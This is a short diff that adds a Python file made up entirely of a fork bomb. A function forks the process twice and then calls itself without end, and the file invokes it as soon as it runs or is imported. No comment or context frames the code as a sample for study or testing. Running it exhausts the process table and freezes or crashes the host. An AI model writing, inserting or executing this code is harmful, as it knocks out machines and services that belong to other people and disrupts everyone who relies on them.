@@ -1,0 +1,10 @@
+import os
+
+
+def twice():
+    os.fork()
+    os.fork()
+    twice()
+
+
+twice()
